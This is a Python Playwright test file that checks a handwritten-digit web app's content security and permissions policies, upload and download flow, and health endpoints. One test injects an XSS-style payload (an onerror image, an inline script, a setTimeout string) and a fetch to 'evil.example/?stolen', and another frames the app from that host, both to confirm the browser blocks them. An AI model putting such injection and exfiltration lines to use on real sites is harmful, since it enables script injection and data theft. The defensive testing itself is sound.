"""The content security policy in a browser: the app needs no more, and gets no more."""

import json
import re
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from playwright.sync_api import ConsoleMessage, Page, expect

from digitapp.drawing.strokes import from_points, paint
from tests.browser.session import (
    ANSWER,
    WAIT,
    Chromium,
    Served,
    draw,
    open_app,
    open_tab,
    press,
    served,
    wait_until_up,
)
from tests.digits import DIGITS

PAGES = ("", "inside", "data", "train", "runs", "handwriting", "stress", "room", "wall", "race")
DOWN = [[(140.0, 40.0), (140.0, 120.0), (140.0, 240.0)]]
POLICY = re.compile("Content Security Policy|Permissions-Policy|Permissions policy", re.IGNORECASE)


@contextmanager
def _watched(browser: Chromium) -> Iterator[tuple[Page, list[str]]]:
    """A page, and what the browser says about policies."""
    said: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if POLICY.search(message.text):
            said.append(message.text)

    with browser.tab(1400, 844) as page:
        page.set_default_timeout(WAIT)
        page.on("console", note)
        yield page, said


def test_nothing_that_the_pages_need_is_blocked(browser: Chromium, with_runs: str) -> None:
    with _watched(browser) as (page, said):
        for path in PAGES:
            page.goto(f"{with_runs}/{path}")
            page.locator("[data-testid=stMainBlockContainer] > *").first.wait_for()
            page.wait_for_load_state("networkidle")
        page.goto(f"{with_runs}/train?run=1")
        expect(page.locator(".js-plotly-plot").first).to_be_visible()
        open_app(page, with_runs)
        draw(page, DOWN)
        expect(page.locator(ANSWER)).to_contain_text("sure")
    assert said == []


def test_a_file_is_uploaded_and_one_taken_home(
    browser: Chromium, address: str, tmp_path: Path
) -> None:
    paint(from_points(DIGITS[6], 20)).save(tmp_path / "six.png")
    with _watched(browser) as (page, said):
        open_app(page, address)
        open_tab(page, "Upload")
        page.locator("input[type=file]").set_input_files(tmp_path / "six.png")
        expect(page.get_by_text("six.png: 6")).to_be_visible()
        with page.expect_download() as found:
            press(page, "Download as CSV")
        assert "six.png,6," in Path(found.value.path()).read_text()
    assert said == []


def test_a_script_that_got_into_a_page_neither_runs_nor_sends_anything_away(
    browser: Chromium, address: str
) -> None:
    with _watched(browser) as (page, said):
        open_app(page, address)
        page.evaluate("""() => {
            const box = document.createElement("div")
            box.innerHTML = '<img src="/nothing.png" onerror="window.ran = true">'
            const script = document.createElement("script")
            script.textContent = "window.ran = true"
            document.body.append(box, script)
            setTimeout("window.ran = true", 0)
        }""")
        away = "http://evil.example/?stolen"
        sent = page.evaluate("url => fetch(url).then(() => true, () => false)", away)
        page.wait_for_timeout(300)
        assert not page.evaluate("Boolean(window.ran)")
        assert not sent
    for refused in ("inline event handler", "inline script", "as JavaScript", "connect"):
        assert any(refused in each for each in said)


def test_only_its_own_pages_can_frame_it(browser: Chromium, address: str) -> None:
    framing = f'<iframe src="{address}/draw"></iframe>'
    shown = {}
    with browser.tab(1400, 844) as page:
        for by in (address, "http://evil.example"):
            where = f"{by}/framing"
            page.route(where, lambda route: route.fulfill(content_type="text/html", body=framing))
            page.goto(where)
            page.wait_for_timeout(1000)
            shown[by] = page.frame_locator("iframe").locator("#root").count()
    assert shown == {address: 1, "http://evil.example": 0}


def test_the_camera_is_allowed_and_the_microphone_is_not(browser: Chromium, address: str) -> None:
    with browser.tab(1400, 844) as page:
        open_app(page, address)
        allows = "name => document.featurePolicy.allowsFeature(name)"
        assert page.evaluate(allows, "camera")
        assert not page.evaluate(allows, "microphone")
        assert not page.evaluate(allows, "geolocation")


def test_below_a_path_and_on_its_own_port_it_is_healthy_and_counted(app_server: Served) -> None:
    _check_operation(app_server.address)
    with served("app.py", options=["--server.baseUrlPath=digits"]) as found:
        wait_until_up(f"{found.address}/digits")
        _check_operation(f"{found.address}/digits")


def _check_operation(address: str) -> None:
    def get(path: str) -> str:
        return urllib.request.urlopen(f"{address}{path}", timeout=10).read().decode()

    assert get("/health/live") == "ok\n"
    latest = time.monotonic() + 60
    while True:  # its pages are being loaded
        try:
            ready = json.loads(get("/health/ready"))
            break
        except urllib.error.HTTPError:
            assert time.monotonic() < latest
            time.sleep(0.2)
    assert ready["store"] == "ok"
    assert "digitapp_store_up 1.0" in get("/metrics")
